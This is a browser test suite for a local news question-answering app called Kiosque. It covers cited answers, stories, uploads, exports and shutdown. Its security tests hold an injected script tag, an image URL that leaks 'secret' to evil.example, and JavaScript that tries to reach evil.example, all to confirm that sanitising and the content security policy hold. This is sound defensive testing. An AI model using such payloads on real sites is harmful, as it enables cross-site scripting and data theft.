"""The page in a real Chromium, over a fake Kiosque: what it looks like, what it sends, what it survives."""

from __future__ import annotations

import contextlib
import signal
import subprocess
from http.client import HTTPConnection
from pathlib import Path

import pytest
from driving import PATIENT_MS, STOPWATCH, Picture, Serve, Served, Visit, ask, assert_fits, click, question_field
from fakes_kiosque import FERRY, HOSTILE
from playwright.sync_api import expect

from rag.interface.words import say
from rag.records import Language
from rag.typography import typeset

pytestmark = pytest.mark.browser

QUESTION = "Combien de blessés dans l’accident du ferry au quai de Harrowmouth ?"


@pytest.mark.parametrize(
    ("width", "scheme", "language"),
    [(1280, "light", "fr"), (360, "dark", "en")],
    ids=["desk, light, French", "phone, dark, English"],
)
def test_a_question_is_answered_with_its_source(
    width: int, scheme: str, language: Language, server: Served, visit: Visit, picture
) -> None:
    watched = visit(f"{server.address}/?lang={language}", width=width, scheme=scheme)
    page, name = watched.page, f"{language}-{width}"
    expect(page.get_by_text(say("chat.title", language))).to_be_visible()
    picture(page, f"{name}-1-welcome")
    ask(page, QUESTION)
    expect(page.locator(".k-evidence")).to_contain_text("L’accident a fait 12 blessés")
    assert page.locator(".k-draft").count() == 0, "what was found shows before the model's words"
    expect(page.get_by_role("status").filter(has_text=say("phase.reading", language))).to_be_visible()
    expect(page.locator(".k-words")).to_contain_text("Aurore-du-Large")
    picture(page, f"{name}-2-writing")
    expect(page.locator("mark")).to_have_text(
        "Le ferry Aurore-du-Large a heurté lundi le quai des Pilotes de Harrowmouth."
    )
    expect(page.locator(".k-doubts")).to_contain_text("n’est pas dans la phrase citée")
    picture(page, f"{name}-3-answer")
    assert_fits(page)
    ask(page, "Quel est le prix du baril de pétrole ?")
    expect(page.locator(".k-refusal")).to_be_visible()
    expect(page.get_by_text(say("answer.nearest", language))).to_be_visible()
    picture(page, f"{name}-4-no-answer")
    watched.assert_quiet()


def test_hostile_text_stays_text(server: Served, visit: Visit, picture: Picture) -> None:
    watched = visit(server.address, width=360)
    page = watched.page
    ask(page, "hameçon page hostile ?")
    expect(page.locator("mark")).to_contain_text(
        "<script>alert(1)</script> ![pixel](http://evil.example/p.png?d=secret)"
    )
    picture(page, "hostile-360-answer")
    assert_fits(page)
    page.goto(f"{server.address}/library")
    title = page.locator(".st-key-rows button").filter(has_text="onerror")
    expect(title).to_be_visible()
    assert title.inner_text().replace("\u2060", "") == typeset(HOSTILE.title)
    picture(page, "hostile-360-library")
    click(title)
    expect(page.locator(".k-headline")).to_have_text(HOSTILE.title)
    expect(page.locator(".k-text")).to_contain_text("<style>body{display:none}</style> &lt;img src=y&gt;")
    assert page.locator(".k-text, .k-headline, .k-meta").locator("script, img, iframe, style, b, u, i, a").count() == 0
    assert_fits(page)
    watched.assert_quiet()


@pytest.mark.parametrize(
    ("width", "scheme", "language"),
    [(1280, "light", "fr"), (360, "dark", "en")],
    ids=["desk, light, French", "phone, dark, English"],
)
def test_a_story_is_opened_and_leads_to_its_articles(
    width: int, scheme: str, language: Language, server: Served, visit: Visit, picture
) -> None:
    watched = visit(f"{server.address}/stories?lang={language}", width=width, scheme=scheme)
    page, name = watched.page, f"{language}-{width}"
    rows = page.locator(".st-key-rows button")
    expect(rows).to_have_count(3)
    starts = rows.locator("p").evaluate_all("all => all.map(one => Math.round(one.getBoundingClientRect().left))")
    assert len(set(starts)) == 1, "titles begin on one line, whatever their length"
    picture(page, f"{name}-8-stories")
    click(rows.filter(has_text="12 blessés"))
    expect(page.locator(".k-headline")).to_have_text(FERRY.title)
    picture(page, f"{name}-9-story")
    assert_fits(page)
    click(page.locator("a.k-title"))
    expect(page.locator(".k-text")).to_contain_text("312 passagers")
    watched.assert_quiet()


def test_a_citation_opens_its_article_at_the_sentence(server: Served, visit: Visit, picture: Picture) -> None:
    start = FERRY.text.index("Les traversées")
    watched = visit(f"{server.address}/library?article={FERRY.id}&at={start}-{len(FERRY.text)}", height=380)
    expect(watched.page.locator(".k-text mark")).to_have_text(FERRY.text[start:])
    expect(watched.page.locator(".k-text mark")).to_be_in_viewport()
    picture(watched.page, "fr-1280-10-cited")
    watched.assert_quiet()


OUTWARD = """
async () => {
  const refused = [];
  document.addEventListener("securitypolicyviolation", (one) => refused.push(one.effectiveDirective));
  try { new WebSocket("wss://evil.example/"); } catch { /* refused as well */ }
  new Image().src = "http://evil.example/p.png";
  await fetch("http://evil.example/").catch(() => null);
  await new Promise((done) => setTimeout(done, 300));
  return refused;
}
"""
"""Tries to reach another machine, and tells which rules of the policy refused it."""


def test_the_server_is_this_machine_alone_and_says_so(server: Served, visit: Visit) -> None:
    assert server.first_line.startswith(f"Kiosque est prêt : {server.address}".replace(" :", "\u00a0:"))
    watched = visit(server.address)
    response = watched.page.reload()  # at whatever address the page has given itself by now
    assert response is not None
    headers = response.headers
    assert "img-src 'self' data: blob:" in headers["content-security-policy"]
    assert headers["referrer-policy"] == "no-referrer" and headers["x-content-type-options"] == "nosniff"
    assert sorted(watched.page.evaluate(OUTWARD)) == ["connect-src", "connect-src", "img-src"]
    for spoofed in ({"Host": "evil.example"}, {"Origin": "http://evil.example"}, {"Origin": "http://127.0.0.1:1"}):
        for path in ("/", "/_stcore/stream", "/_stcore/upload_file/a/b"):
            assert status(server, path, spoofed) == 403, (spoofed, path)
    listening = subprocess.run(["ss", "-ltnH"], capture_output=True, text=True, check=False).stdout
    assert not listening or f"127.0.0.1:{server.port}" in listening and f"0.0.0.0:{server.port}" not in listening


def status(server: Served, path: str, headers: dict[str, str]) -> int:
    connection = HTTPConnection("127.0.0.1", server.port, timeout=5)
    upgrade = {"Connection": "Upgrade", "Upgrade": "websocket", "Sec-WebSocket-Version": "13"}
    with contextlib.closing(connection):
        key = {"Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ=="}
        connection.request("GET", path, headers={**(upgrade | key if "stream" in path else {}), **headers})
        return connection.getresponse().status


@pytest.fixture(scope="module")
def slow(serve: Serve) -> Served:
    return serve(reading=4, piece=0.8)


@pytest.mark.parametrize("when", ["reading", "writing"])
def test_stop_works_within_a_second(when: str, slow: Served, visit: Visit) -> None:
    page = visit(slow.address).page
    ask(page, QUESTION)
    expect(page.locator(".k-evidence" if when == "reading" else ".k-words")).to_be_visible()
    assert page.evaluate(STOPWATCH) < 1000
    expect(question_field(page)).to_be_enabled()


def test_a_reload_in_mid_answer_loses_nothing(server: Served, visit: Visit) -> None:
    watched = visit(server.address)
    page = watched.page
    ask(page, QUESTION)
    expect(page.locator(".k-words")).to_contain_text("Aurore")
    page.reload()
    expect(page.locator(".k-claims")).to_contain_text("400 témoins")
    expect(page.locator(".k-question")).to_have_text(QUESTION)
    click(page.get_by_role("button", name=say("chat.new", "fr")))
    expect(page.locator(".k-question")).to_have_count(0)
    click(page.get_by_role("button", name="Combien de blessés").first)
    expect(page.locator(".k-claims")).to_contain_text("400 témoins")
    watched.assert_quiet()


def test_a_conversation_is_named_taken_away_and_erased_and_prices_stay_prices(server: Served, visit: Visit) -> None:
    watched = visit(server.address)
    page = watched.page
    ask(page, "Le ferry Aurore-du-Large à 5 $ et 10 $ : combien de blessés ?")
    expect(page.locator(".k-claims")).to_be_visible()
    expect(page.locator(".k-question")).to_contain_text("à 5 $ et 10 $")
    listed = page.get_by_test_id("stSidebar").locator("[class*=st-key-conversation-] button")
    expect(listed.filter(has_text="à 5 $ et 10 $")).to_have_count(1)
    click(page.get_by_role("button", name=say("chat.rename", "fr")))
    name = page.get_by_label(say("chat.name", "fr"))
    name.fill("Des billets à 5 $ et 10 $")
    name.press("Enter")
    expect(listed.filter(has_text="Des billets à 5 $ et 10 $")).to_have_count(1)
    assert page.locator(".katex").count() == 0
    page.keyboard.press("Escape")
    with page.expect_download() as taken:
        page.get_by_role("link", name=say("chat.export", "fr")).click()  # at once: it must work whatever runs
    text = taken.value.path().read_text("utf-8")
    assert text.startswith("# Des billets") and "a heurté lundi le quai des Pilotes" in text
    click(page.get_by_role("button", name=say("chat.remove", "fr")))
    click(page.get_by_role("button", name=say("yes", "fr")))
    expect(page.locator(".k-question")).to_have_count(0)
    expect(listed.filter(has_text="Des billets")).to_have_count(0)
    watched.assert_quiet()


def test_files_are_dropped_and_articles_removed(serve: Serve, visit: Visit, picture: Picture, tmp_path: Path) -> None:
    watched = visit(f"{serve(language='en').address}/library")
    page = watched.page
    names = {"good.txt": "Une brève\nLe marché ouvre samedi.", "bad.txt": "panne"}
    for name, text in names.items():
        (tmp_path / name).write_text(text, "utf-8")
    click(page.get_by_text(say("library.add", "en")))
    page.locator("input[type=file]").set_input_files([tmp_path / name for name in names])
    expect(page.get_by_text("good.txt")).to_be_visible()
    click(page.get_by_role("button", name=say("library.submit", "en"), exact=True))
    expect(page.locator(".k-failed")).to_contain_text("refused")
    expect(page.locator(".k-added")).to_contain_text("Une brève")
    picture(page, "en-1280-5-added")
    click(page.locator(".st-key-rows button").filter(has_text="12 blessés"))
    click(page.get_by_role("button", name=say("article.summarise", "en")))
    expect(page.locator(".k-pair")).to_contain_text("In short: Le ferry")
    picture(page, "en-1280-6-article")
    click(page.get_by_text(say("article.remove", "en")))
    click(page.get_by_role("button", name=say("yes", "en")))
    expect(page.locator(".st-key-rows")).to_contain_text("Une brève")
    expect(page.locator(".st-key-rows")).not_to_contain_text(FERRY.source or "")
    watched.assert_quiet()


def test_a_question_is_answered_while_many_articles_are_added(serve: Serve, visit: Visit, picture: Picture) -> None:
    """Typed, sent and answered as ever, however long the list."""
    address = serve(adding=0.1, piece=0.02).address
    library, page = visit(f"{address}/library").page, visit(address).page
    many = "\n\n".join(f"Foire de Valmorel, allée {n}\nOn y a vendu {3 * n + 7} fromages." for n in range(3000))
    click(library.get_by_text(say("library.add", "fr")))
    library.locator("input[type=file]").set_input_files([{"name": "a.txt", "mimeType": "", "buffer": many.encode()}])
    expect(library.get_by_text("a.txt")).to_be_visible()
    click(library.get_by_role("button", name=say("library.submit", "fr"), exact=True))
    expect(library.locator(".k-added").nth(10)).to_be_attached()
    question_field(page).press_sequentially(QUESTION, delay=20)
    page.keyboard.press("Enter")
    expect(page.locator(".k-claims")).to_contain_text("Aurore-du-Large", timeout=3 * PATIENT_MS)
    expect(library.get_by_role("progressbar")).to_be_visible()
    picture(library, "fr-1280-adding-many")


@pytest.fixture(scope="module")
def without_model(serve: Serve) -> Served:
    return serve(missing=True, language="en")


def test_without_a_model_the_page_says_what_to_do(without_model: Served, visit: Visit, picture: Picture) -> None:
    watched = visit(without_model.address)
    page = watched.page
    expect(page.get_by_role("alert")).to_contain_text("python -m rag models pull qwen-mini")
    ask(page, QUESTION)
    expect(page.get_by_text(FERRY.title).first).to_be_visible()
    picture(page, "en-1280-7-no-model")
    watched.assert_quiet()


def test_a_first_run_has_all_that_is_missing_in_view(serve: Serve, visit: Visit, picture: Picture) -> None:
    page = visit(serve(missing=True, articles=False).address, width=360, height=740).page
    field = page.get_by_test_id("stChatInput").bounding_box()
    assert field
    for name in (say("remedy.samples", "fr"), "Télécharger qwen"):
        box = page.get_by_role("button", name=name).bounding_box()
        assert box and 0 < box["y"] < box["y"] + box["height"] < field["y"]
    picture(page, "fr-360-first-run")


def test_a_very_long_question_leaves_its_answer_in_view(server: Served, visit: Visit) -> None:
    page = visit(server.address).page
    ask(page, f"{QUESTION} " + "Le navire transportait-il aussi du fret, et pour le compte de qui ? " * 80)
    expect(page.locator(".k-claims")).to_be_in_viewport(timeout=60_000)


def test_ctrl_c_ends_it_cleanly(without_model: Served, visit: Visit) -> None:
    expect(question_field(visit(without_model.address).page)).to_be_visible()
    without_model.process.send_signal(signal.SIGINT)
    output, _ = without_model.process.communicate(timeout=10)
    assert without_model.first_line.startswith("Kiosque is ready: http://127.0.0.1:")
    assert without_model.process.returncode == 130
    assert "Traceback" not in output
